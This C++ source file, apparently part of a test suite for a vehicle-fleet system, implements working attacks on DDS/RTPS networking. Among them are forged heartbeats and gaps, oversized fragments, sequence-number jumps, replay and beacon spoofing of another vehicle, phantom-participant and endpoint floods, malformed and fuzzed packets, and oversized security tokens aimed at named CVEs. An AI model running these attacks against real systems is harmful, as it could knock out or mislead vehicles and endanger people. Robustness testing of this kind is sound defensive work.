#include "tests/attack/attacks.h"

#include <algorithm>
#include <map>
#include <optional>
#include <random>
#include <utility>

#include "tests/attack/heard.h"
#include "tests/support/rtps_packet.h"

namespace giveway::attack {
namespace {

using test::PacketBytes;
using test::PrefixBytes;
using test::RtpsPacket;

constexpr std::int64_t kFar = 4'000'000'000;
constexpr std::uint32_t kParticipants = 12;  // tried, of a domain

in_addr Group() { return AddressOf("239.255.0.1"); }

bool IsOver(std::chrono::steady_clock::time_point begun, const Target& target) {
  return std::chrono::steady_clock::now() - begun > target.time;
}

// To the group, and to every port that a participant of the domain may have.
void SendToAll(const PacketBytes& packet, const Target& target, UdpSender* sender) {
  sender->Send(packet, Group(), MulticastPort(target.domain));
  for (std::uint32_t i = 0; i < kParticipants; ++i) {
    for (const bool user : {false, true}) {
      sender->Send(packet, target.address, UnicastPort(target.domain, i, user));
    }
  }
}

// One of each writer and destination.
std::vector<Heard> WritersOf(const Target& target) {
  std::vector<Heard> all;
  for (const Packet& packet : target.captured) FindHeard(packet, &all);
  const auto key = [](const Heard& heard) {
    return std::tuple(heard.prefix, heard.writer, heard.packet->to.s_addr, heard.packet->port);
  };
  std::ranges::sort(all, {}, key);
  all.erase(std::unique(all.begin(), all.end(),
                        [&](const Heard& a, const Heard& b) { return key(a) == key(b); }),
            all.end());
  return all;
}

// Forges of every writer heard, again and again.
void AsEachWriter(const Target& target, UdpSender* sender,
                  const std::function<PacketBytes(const Heard&, std::uint32_t turn)>& forge) {
  const auto begun = std::chrono::steady_clock::now();
  const std::vector<Heard> writers = WritersOf(target);
  for (std::uint32_t turn = 1; !writers.empty() && !IsOver(begun, target); ++turn) {
    for (const Heard& heard : writers) {
      sender->Send(forge(heard, turn), heard.packet->to, heard.packet->port);
    }
  }
}

// 84 bytes: a statistics submessage that is not the last one.
void Statistics(const Target& target, UdpSender* sender) {
  const auto begun = std::chrono::steady_clock::now();
  PacketBytes packet = RtpsPacket({1, 15, 66}).Statistics().Bytes();
  packet.resize(84);
  while (!IsOver(begun, target)) SendToAll(packet, target, sender);
}

// Of samples that no type is as large as, and of such that would be taken, each time a new one.
void Fragments(const Target& target, UdpSender* sender) {
  AsEachWriter(target, sender, [](const Heard& heard, std::uint32_t turn) {
    const bool is_sound = heard.kind == 0x15 && turn % 2 == 0;
    const std::int64_t number = is_sound ? NumberOf(heard) + turn : 1000 + turn;
    const std::uint32_t sample_bytes = is_sound ? 120'000 : 4'000'000'000;
    return RtpsPacket(heard.prefix)
        .DataFrag(heard.writer, number, 1, 1, 1000, sample_bytes, 1000, heard.reader)
        .Bytes();
  });
}

// Reliable writers of a process that may have been silent: the builtin ones, and those that the
// library numbers as they are made, with a key or without.
std::vector<std::uint32_t> ReliableWriters(const Heard& heard) {
  std::vector<std::uint32_t> writers{heard.writer, 0x000003c2, 0x000004c2, 0x000200c2};
  for (std::uint32_t i = 1; i <= 20; ++i) {
    writers.push_back(i << 8U | 0x02);
    writers.push_back(i << 8U | 0x03);
  }
  return writers;
}

void Gaps(const Target& target, UdpSender* sender) {
  AsEachWriter(target, sender, [](const Heard& heard, std::uint32_t) {
    RtpsPacket packet(heard.prefix);
    for (const std::uint32_t writer : ReliableWriters(heard)) packet.Gap(writer, 1, kFar);
    return packet.Bytes();
  });
}

void Heartbeats(const Target& target, UdpSender* sender) {
  AsEachWriter(target, sender, [](const Heard& heard, std::uint32_t turn) {
    RtpsPacket packet(heard.prefix);
    for (const std::uint32_t writer : ReliableWriters(heard)) {
      packet.Heartbeat(writer, kFar, kFar, 1'000'000 + turn);
    }
    return packet.Bytes();
  });
}

// What was just said, 2^40 numbers ahead.
void Jumps(const Target& target, UdpSender* sender) {
  AsEachWriter(target, sender, [](const Heard& heard, std::uint32_t turn) {
    PacketBytes copy = heard.packet->bytes;
    if (heard.kind != 0x15) return copy;
    const std::size_t number = heard.at + 4 + 12;  // its high half
    copy[number + 1] = 1;                          // 2^8 of 2^32
    copy[number + 4] = static_cast<std::uint8_t>(copy[number + 4] + turn);
    return copy;
  });
}

// As each writer that is heard often: what it said, under the numbers that it comes to meanwhile
// and a few more, and under numbers that climb with each packet.
void Steps(const Target& target, UdpSender* sender) {
  constexpr std::size_t kOften = 10;   // times in what was captured
  constexpr double kCaptured_s = 0.6;  // ago, on average
  constexpr double kRate_hz = 20;
  constexpr std::uint32_t kAround = 48;  // numbers tried
  constexpr std::uint32_t kStep = 40;
  std::vector<Heard> often;
  std::map<std::pair<PrefixBytes, std::uint32_t>, std::size_t> times;
  std::vector<Heard> all;
  for (const Packet& packet : target.captured) FindHeard(packet, &all);
  for (const Heard& heard : all) ++times[{heard.prefix, heard.writer}];
  for (const Heard& heard : WritersOf(target)) {
    if (heard.kind == 0x15 && times[{heard.prefix, heard.writer}] >= kOften) often.push_back(heard);
  }
  const auto begun = std::chrono::steady_clock::now();
  for (std::uint32_t turn = 0; !often.empty() && !IsOver(begun, target); ++turn) {
    const double since_s =
        kCaptured_s +
        std::chrono::duration<double>(std::chrono::steady_clock::now() - begun).count();
    for (const Heard& heard : often) {
      PacketBytes copy = heard.packet->bytes;
      const std::uint32_t ahead = static_cast<std::uint32_t>(kRate_hz * since_s) +
                                  (turn % 2 == 0 ? turn % kAround : turn * kStep);
      SetNumber(heard, NumberOf(heard) + ahead, &copy);
      sender->Send(copy, heard.packet->to, heard.packet->port);
    }
  }
}

// What was said before, again: of one vehicle its beacons.
void Replay(const Target& target, UdpSender* sender) {
  const auto begun = std::chrono::steady_clock::now();
  std::vector<const Packet*> said;
  for (const Heard& beacon : BeaconsOf(target.vehicle, target.captured)) {
    said.push_back(beacon.packet);
  }
  for (const Packet& packet : target.captured) {
    if (target.vehicle == 0) said.push_back(&packet);
  }
  for (std::size_t turn = 0; !said.empty() && !IsOver(begun, target); ++turn) {
    const Packet& packet = *said[turn % said.size()];
    sender->Send(packet.bytes, packet.to, packet.port);
  }
}

// Another vehicle's beacons as this one's: from its writer, under the next sequence number. To each
// of its readers in turn.
class Impostor {
 public:
  Impostor(std::uint32_t vehicle, const std::vector<Packet>& captured)
      : vehicle_(vehicle), beacons_(BeaconsOf(vehicle, captured)) {
    for (const Heard& beacon : beacons_) number_ = std::max(number_, NumberOf(beacon));
    for (const Packet& packet : captured) NoteOther(packet);
  }
  bool KnowsEnough() const { return !beacons_.empty() && !other_.empty(); }
  // Updates what it knows by what was sent since the capture.
  void Follow(const Packet& packet) {
    std::vector<Heard> found;
    FindHeard(packet, &found);
    for (const Heard& heard : found) {
      const bool own = BeaconOf(heard) == vehicle_ && heard.prefix == beacons_.front().prefix;
      if (own) number_ = std::max(number_, NumberOf(heard));
    }
    NoteOther(packet);
  }
  void Send(std::size_t turn, UdpSender* sender) const {
    const Heard& model = beacons_[turn % beacons_.size()];
    PacketBytes copy = model.packet->bytes;
    SetNumber(model, number_ + 1, &copy);
    std::ranges::copy(other_, copy.begin() + static_cast<std::ptrdiff_t>(BeaconAt(model)));
    sender->Send(copy, model.packet->to, model.packet->port);
  }

 private:
  void NoteOther(const Packet& packet) {
    std::vector<Heard> found;
    FindHeard(packet, &found);
    for (const Heard& heard : found) {
      const auto by = BeaconOf(heard);
      if (!by || *by == vehicle_ || *by != other_vehicle_.value_or(*by)) continue;
      other_vehicle_ = by;
      const auto begin = packet.bytes.begin() + static_cast<std::ptrdiff_t>(BeaconAt(heard));
      other_.assign(begin, begin + static_cast<std::ptrdiff_t>(kBeaconBytes));
    }
  }

  std::uint32_t vehicle_;
  std::vector<Heard> beacons_;
  std::int64_t number_ = 0;  // the highest that the vehicle said
  // One other, for readers refuse a writer that speaks of many; and its newest sample.
  std::optional<std::uint32_t> other_vehicle_;
  PacketBytes other_;
};

void Spoof(const Target& target, UdpSender* sender) {
  Impostor impostor(target.vehicle, target.captured);
  if (!impostor.KnowsEnough() || target.listener == nullptr) return;
  const auto begun = std::chrono::steady_clock::now();
  for (std::size_t turn = 0; !IsOver(begun, target); ++turn) {
    // First: at the fleet's own rate the number would be one that was sent meanwhile, each time.
    sender->WaitForTurn();
    while (const auto packet = target.listener->Take(std::chrono::milliseconds(0))) {
      if (packet->from_port != sender->Port()) impostor.Follow(*packet);
    }
    impostor.Send(turn, sender);
  }
}

// 5 000 participants that are not there.
void Strangers(const Target& target, UdpSender* sender) {
  std::mt19937_64 random(target.seed);
  for (int i = 0; i < 5000; ++i) {
    PrefixBytes prefix{1, 15};
    for (std::size_t byte = 2; byte < prefix.size(); ++byte) {
      prefix[byte] = static_cast<std::uint8_t>(random());
    }
    sender->Send(RtpsPacket(prefix).Announcement(prefix, 1).Bytes(), Group(),
                 MulticastPort(target.domain));
  }
}

// A parameter of discovery, and the numbers of 32 bits that are its value.
PacketBytes Parameter(std::uint16_t id, const std::vector<std::uint32_t>& numbers) {
  const std::size_t bytes = 4 * numbers.size();
  PacketBytes parameter;
  const auto append = [&](std::size_t number, std::size_t size) {
    for (std::size_t i = 0; i < size; ++i) {
      parameter.push_back(static_cast<std::uint8_t>(number >> (8 * i)));
    }
  };
  append(id, 2);
  append(bytes, 2);
  for (const std::uint32_t number : numbers) append(number, 4);
  return parameter;
}

// A text with its NUL, as parameters have it.
std::vector<std::uint32_t> Text(const std::string& text) {
  std::vector<std::uint32_t> numbers(1 + text.size() / 4 + 1);
  numbers[0] = static_cast<std::uint32_t>(text.size() + 1);
  for (std::size_t i = 0; i < text.size(); ++i) {
    numbers[1 + i / 4] |= static_cast<std::uint32_t>(text[i]) << (8 * (i % 4));
  }
  return numbers;
}

// What a writer of beacons offers: its topic and type, vehicle 9's partition, 0.1 s of deadline and
// 0.2 s of lease, asserted by topic. Each vehicle of the area matches it.
PacketBytes OfBeacons() {
  std::vector<std::uint32_t> partition = Text("main/v9");
  partition.insert(partition.begin(), 1);
  PacketBytes all;
  for (const PacketBytes& parameter :
       {Parameter(0x05, Text("fleet/beacon")), Parameter(0x07, Text("giveway::wire::Beacon")),
        Parameter(0x29, partition), Parameter(0x23, {0, 429'496'729}),
        Parameter(0x1b, {2, 0, 858'993'459})}) {
    all.insert(all.end(), parameter.begin(), parameter.end());
  }
  return all;
}

// One participant that has writers without end, 32 a packet, to each participant by itself: of such
// announcements none is heard by multicast.
void Endpoints(const Target& target, UdpSender* sender) {
  constexpr int kAPacket = 32;
  const PrefixBytes prefix{1, 15, 68};
  const PacketBytes of_beacons = OfBeacons();
  const auto begun = std::chrono::steady_clock::now();
  std::int64_t number = 0;
  for (std::uint32_t turn = 0; !IsOver(begun, target); ++turn) {
    if (turn % 64 == 0) {
      const PacketBytes announcement =
          RtpsPacket(prefix).Announcement(prefix, turn / 64 + 1).Bytes();
      sender->Send(announcement, Group(), MulticastPort(target.domain));
    }
    RtpsPacket packet(prefix);
    for (int i = 0; i < kAPacket; ++i) {
      const auto writer = static_cast<std::uint32_t>(++number) << 8U | 0x02;
      packet.WriterAnnouncement(prefix, writer, number, of_beacons);
    }
    for (std::uint32_t i = 0; i < kParticipants; ++i) {
      sender->Send(packet.Bytes(), target.address, UnicastPort(target.domain, i, false));
    }
  }
}

// A stranger whose tokens, and whose writers' lists, state more than there is: CVE-2025-62599 to
// 62602, CVE-2025-64098, CVE-2026-49861.
void Tokens(const Target& target, UdpSender* sender) {
  constexpr std::uint32_t kName = 0x41;  // of 2 bytes, with its NUL
  constexpr std::uint32_t kMany = 60'000'000;
  const std::vector<std::vector<std::uint32_t>> tokens = {
      {0xffff'fff0, 0, 0, 0},
      {2, kName, kMany, 0, 0},
      {2, kName, 0, kMany, 0, 0},
      {2, kName, 0, 1, 2, kName, 3'000'000'000, 0, 0},
      {2, kName, 0, 1, 2, kName, 0xffff'fff8, 0, 0}};
  const std::vector<PacketBytes> lists = {Parameter(0x73, {400'000'000, 0}),
                                          Parameter(0x59, {0x7fff'ffff, 4, kName, 4, kName}),
                                          Parameter(0x29, {2, 0x7fff'ff00, kName})};
  const PrefixBytes prefix{1, 15, 67};
  const auto begun = std::chrono::steady_clock::now();
  for (std::int64_t turn = 1; !IsOver(begun, target); ++turn) {
    SendToAll(RtpsPacket(prefix).Announcement(prefix, turn).Bytes(), target, sender);
    for (const PacketBytes& list : lists) {
      SendToAll(RtpsPacket(prefix).WriterAnnouncement(prefix, 0x103, turn, list).Bytes(), target,
                sender);
    }
    for (const std::uint16_t id : {std::uint16_t{0x1001}, std::uint16_t{0x1002}}) {
      for (const std::vector<std::uint32_t>& token : tokens) {
        const PacketBytes more = Parameter(id, token);
        SendToAll(RtpsPacket(prefix).Announcement(prefix, turn, 20, more).Bytes(), target, sender);
      }
    }
  }
}

void CorruptNumber(PacketBytes* packet, std::size_t at, std::mt19937_64* random) {
  constexpr std::uint8_t kExtremes[] = {0, 1, 0x7f, 0x80, 0xff};
  const std::size_t size = std::size_t{1} << ((*random)() % 4);
  for (std::size_t i = 0; i < size && at + i < packet->size(); ++i) {
    (*packet)[at + i] = kExtremes[(*random)() % std::size(kExtremes)];
  }
}

// A captured packet with a few places changed: its bits, its numbers, its end, its kinds.
PacketBytes Corrupted(PacketBytes packet, const Target& target, std::mt19937_64* random) {
  const auto place = [&](std::size_t from) {
    return from + (*random)() % std::max<std::size_t>(packet.size() - from, 1);
  };
  const int changes = 1 + static_cast<int>((*random)() % 4);
  for (int i = 0; i < changes && packet.size() > kRtpsHeader; ++i) {
    switch ((*random)() % 6) {
      case 0:
        packet[place(0)] ^= static_cast<std::uint8_t>(1U << ((*random)() % 8));
        break;
      case 1:
        packet[place(kRtpsHeader)] = static_cast<std::uint8_t>((*random)());
        break;
      case 2:
        CorruptNumber(&packet, place(kRtpsHeader), random);
        break;
      case 3:
        packet.resize(place(kRtpsHeader));
        break;
      case 4:
        packet[kRtpsHeader] = static_cast<std::uint8_t>((*random)() % 0x38);
        break;
      default: {  // the rest of another one behind it
        const PacketBytes& other = target.captured[(*random)() % target.captured.size()].bytes;
        packet.insert(packet.end(), other.begin() + kRtpsHeader, other.end());
      }
    }
  }
  return packet;
}

void Fuzz(const Target& target, UdpSender* sender) {
  const auto begun = std::chrono::steady_clock::now();
  std::mt19937_64 random(target.seed);
  while (!target.captured.empty() && !IsOver(begun, target)) {
    const Packet& model = target.captured[random() % target.captured.size()];
    sender->Send(Corrupted(model.bytes, target, &random), model.to, model.port);
  }
}

// What the target listens at: a vehicle's own ports, or all that anything went to.
std::vector<Place> PlacesOf(const Target& target) {
  if (target.vehicle != 0) return PlacesOf(target.vehicle, target.captured);
  return PlacesOfAll(target.captured);
}

// What no library sends: what is heard with a few places changed, a statistics submessage that is
// not the last one, a packet that ends too early, the number 0, a GAP over all that may come.
PacketBytes Malformed(const Packet& model, std::uint32_t turn, const Target& target,
                      std::mt19937_64* random) {
  PrefixBytes prefix;
  std::copy_n(model.bytes.begin() + 8, prefix.size(), prefix.begin());
  PacketBytes packet = RtpsPacket(prefix).Statistics().Bytes();
  switch (turn % 5) {
    case 0:
      return Corrupted(model.bytes, target, random);
    case 1:
      packet.resize(packet.size() + 4);
      return packet;
    case 2:
      return RtpsPacket(prefix).Add(0x15, 0x04, PacketBytes(24), 400).Bytes();
    case 3:
      return RtpsPacket(prefix).Data(test::kUserWriter, 0, PacketBytes(24)).Bytes();
    default:
      return RtpsPacket(prefix).Gap(test::kUserWriter, 1, kFar).Bytes();
  }
}

void Malform(const Target& target, UdpSender* sender) {
  const auto begun = std::chrono::steady_clock::now();
  const std::vector<Place> places = PlacesOf(target);
  std::vector<const Packet*> models;
  for (const Packet& packet : target.captured) {
    if (std::ranges::find(places, Place{packet.to, packet.port}) != places.end()) {
      models.push_back(&packet);
    }
  }
  std::mt19937_64 random(target.seed);
  for (std::uint32_t turn = 0; !models.empty() && !IsOver(begun, target); ++turn) {
    const Packet& model = *models[random() % models.size()];
    sender->Send(Malformed(model, turn, target, &random), model.to, model.port);
  }
}

// Bytes of no meaning: to a vehicle's ports, to all that were heard of, or to all that may be.
void Flood(const Target& target, UdpSender* sender) {
  const auto begun = std::chrono::steady_clock::now();
  const std::vector<Place> places = PlacesOf(target);
  std::mt19937_64 random(target.seed);
  PacketBytes noise(200);
  for (std::size_t turn = 0; !IsOver(begun, target); ++turn) {
    for (std::uint8_t& byte : noise) byte = static_cast<std::uint8_t>(random());
    if (!places.empty()) {
      const Place& place = places[turn % places.size()];
      sender->Send(noise, place.address, place.port);
    } else if (target.vehicle == 0) {
      SendToAll(noise, target, sender);
    } else {
      return;
    }
  }
}

}  // namespace

std::uint16_t MulticastPort(std::uint32_t domain) {
  return static_cast<std::uint16_t>(7400 + 250 * domain);
}

std::uint16_t UnicastPort(std::uint32_t domain, std::uint32_t participant, bool user) {
  return static_cast<std::uint16_t>(7410 + 250 * domain + 2 * participant + (user ? 1 : 0));
}

bool KnowsEnough(const std::string& attack, const Target& target) {
  if (target.vehicle == 0) return true;
  if (attack == "spoof") return Impostor(target.vehicle, target.captured).KnowsEnough();
  const bool by_beacons = attack == "replay";
  return by_beacons ? !BeaconsOf(target.vehicle, target.captured).empty()
                    : !PlacesOf(target).empty();
}

bool TakesVehicle(const std::string& attack) {
  return attack == "flood" || attack == "malformed" || attack == "replay" || attack == "spoof";
}

const std::map<std::string, Attack>& Attacks() {
  static const std::map<std::string, Attack> kAttacks{{"endpoints", Endpoints},
                                                      {"flood", Flood},
                                                      {"fragments", Fragments},
                                                      {"fuzz", Fuzz},
                                                      {"gaps", Gaps},
                                                      {"jumps", Jumps},
                                                      {"heartbeats", Heartbeats},
                                                      {"malformed", Malform},
                                                      {"replay", Replay},
                                                      {"spoof", Spoof},
                                                      {"statistics", Statistics},
                                                      {"steps", Steps},
                                                      {"strangers", Strangers},
                                                      {"tokens", Tokens}};
  return kAttacks;
}

}  // namespace giveway::attack
